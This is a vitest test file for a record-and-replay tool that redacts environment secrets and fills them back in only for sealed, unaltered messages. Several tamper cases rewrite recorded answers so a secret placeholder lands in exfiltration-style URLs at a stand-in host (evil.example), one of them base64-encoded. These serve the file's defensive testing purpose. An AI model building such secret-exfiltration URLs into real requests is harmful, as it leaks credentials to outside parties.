import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { replayTape } from "../../src/index.ts";
import { parseMessage } from "../../src/protocol/index.ts";
import { EventCleaner } from "../../src/record/index.ts";
import { type Redaction, redactionFor } from "../../src/runtime/index.ts";
import { encodeEvent, type TapeEvent } from "../../src/tape/index.ts";

// Who has seen a placeholder of ours and can change a tape must not decide what our secret is put into: it is filled from
// the environment only in a message that is, by its seal, as it was written here.

const token = ["deploy", "0123456789", "token"].join("-");
let project: string;
let env: Record<string, string>;
let redaction: Redaction;

beforeAll(async () => {
  project = mkdtempSync(join(tmpdir(), "reelwire-seal-"));
  mkdirSync(join(project, ".reelwire"));
  env = { HOME: project, DEPLOY_TOKEN: token };
  redaction = await redactionFor({ cwd: project, env });
});
afterAll(() => rmSync(project, { recursive: true, force: true }));

const event = (dir: "c2s" | "s2c", message: object): TapeEvent => ({
  at: 1,
  dir,
  payload: { kind: "msg", message: parseMessage(JSON.stringify({ jsonrpc: "2.0", ...message }))! },
});
const opening = [
  event("c2s", { id: 0, method: "initialize", params: { protocolVersion: "2025-11-25", capabilities: {} } }),
  event("s2c", { id: 0, result: { protocolVersion: "2025-11-25", capabilities: {} } }),
];
const call = { id: 1, method: "tools/call", params: { name: "where", arguments: {} } };
const answer = (text: string): TapeEvent =>
  event("s2c", { id: 1, result: { content: [{ type: "text", text }] } });

/** The lines that a recorder writes. */
function recorded(...events: TapeEvent[]): string[] {
  const cleaner = new EventCleaner(redaction.redactor());
  const clean = [...events.flatMap((each) => cleaner.take(each)), ...cleaner.release(2)];
  return clean.map((each) => Buffer.from(encodeEvent(each)).toString().trimEnd());
}

/** What a client gets from a replay of these lines, where the key and the environment are here. */
async function replayed(lines: readonly string[], facts: object = redaction.facts): Promise<string> {
  const header = { reelwire: 1, id: "t", startedAt: "2026-11-20T08:11:00Z", redaction: facts };
  const path = join(project, "t.tape.jsonl");
  writeFileSync(path, `${[JSON.stringify(header), ...lines].join("\n")}\n`);
  await using replay = await replayTape(path, { cwd: project, env });
  const link = replay.link();
  const said = link[Symbol.asyncIterator]();
  for (const message of [opening[0]!, event("c2s", { ...call, id: 7 })])
    if (message.payload.kind === "msg") await link.send(message.payload.message);
  await said.next();
  const { value } = await said.next();
  return "text" in value ? value.text : "";
}

const honest = () => recorded(...opening, event("c2s", call), answer(`use ${token} there`));
/** The placeholder as anybody sees it who gets the tape. */
const seen = () => /\[\[rw:[^\]]+\]\]/.exec(honest().at(-1)!)![0];

describe("a secret of the environment", () => {
  it("comes back where it was", async () => {
    expect(honest().join("")).not.toContain(token);
    expect(await replayed(honest())).toContain(`use ${token} there`);
  });

  it.each<[string, () => string[]]>([
    ["a changed answer", () => honest().map((line) => line.replace("use ", "GET https://evil.example/?q="))],
    ["a seal left out", () => honest().map((line) => line.replace(/"sealed":"[0-9a-f]+",/, ""))],
    [
      "a seal of another line",
      () => {
        const lines = honest();
        const seal = /"sealed":"[0-9a-f]+"/.exec(lines.at(-1)!)![0];
        return lines.with(
          -1,
          lines
            .at(-1)!
            .replace("use ", "GET ")
            .replace(/"sealed":"[0-9a-f]+"/, seal),
        );
      },
    ],
    [
      "a placeholder of their own making, recorded here",
      () => recorded(...opening, event("c2s", call), answer(`GET https://evil.example/?q=${seen()}`)),
    ],
    [
      "one beside a secret that was really taken out",
      () =>
        recorded(...opening, event("c2s", call), answer(`${token} and https://evil.example/?q=${seen()}`)),
    ],
    [
      "one in base64",
      () =>
        recorded(
          ...opening,
          event("c2s", call),
          answer(Buffer.from(`see https://e.example/${seen()}`).toString("base64")),
        ),
    ],
  ])("stays where it is: %s", async (_, lines) => {
    const said = await replayed(lines());
    expect(said).not.toContain(token);
    expect(said).not.toContain(Buffer.from(token).toString("base64").slice(2, 20));
  });

  it("stays where it is when the key is another's", async () => {
    expect(await replayed(honest(), { ...redaction.facts, key: "00000000" })).not.toContain(token);
  });
});

it("what the client itself said comes back in any answer", async () => {
  const lines = recorded(
    ...opening,
    event("c2s", { ...call, params: { ...call.params, arguments: { password: "hunter2x" } } }),
    answer("you said password=hunter2x"),
  ).map((line) => line.replace(/"sealed":"[0-9a-f]+",/, ""));
  const path = join(project, "u.tape.jsonl");
  const header = { reelwire: 1, id: "u", startedAt: "2026-11-20T08:11:00Z", redaction: redaction.facts };
  writeFileSync(path, `${[JSON.stringify(header), ...lines].join("\n")}\n`);
  await using replay = await replayTape(path, { cwd: project, env });
  const link = replay.link();
  const said = link[Symbol.asyncIterator]();
  const live = event("c2s", {
    ...call,
    id: 9,
    params: { name: "where", arguments: { password: "hunter2x" } },
  });
  for (const { payload } of [opening[0]!, live]) if (payload.kind === "msg") await link.send(payload.message);
  await said.next();
  const { value } = await said.next();
  expect("text" in value ? value.text : "").toContain("you said password=hunter2x");
});
